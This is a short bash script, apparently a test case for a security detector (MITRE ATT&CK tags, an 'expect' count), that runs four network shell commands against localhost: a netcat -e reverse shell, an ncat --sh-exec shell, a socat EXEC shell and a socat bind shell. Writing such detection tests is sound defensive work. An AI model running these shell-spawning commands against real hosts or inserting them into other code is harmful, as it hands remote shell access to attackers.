#!/bin/bash
# desc: netcat and socat handing a shell to the network: nc.traditional -e /bin/sh back to a listener, ncat --sh-exec, socat TCP ... EXEC:/bin/sh, and a socat bind shell an attacker connects to
# mitre: T1059.004, T1095, T1071
# expect: network_tool_executes_shell*4
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

listen_once; timeout 10 nc.traditional 127.0.0.1 "$port" -e /bin/sh || true
listen_once; timeout 10 ncat 127.0.0.1 "$port" --sh-exec 'exec /bin/sh' || true
listen_once; timeout 10 socat "TCP:127.0.0.1:$port" EXEC:/bin/sh || true
wait
# A bind shell: the victim listens, the attacker connects.
port=$(free_port)
timeout 10 socat "TCP-LISTEN:$port,bind=127.0.0.1,reuseaddr" EXEC:'/bin/sh -i',stderr &
wait_listen 127.0.0.1 "$port"
printf 'id\nexit\n' | timeout 10 nc -N 127.0.0.1 "$port" >/dev/null || true
wait
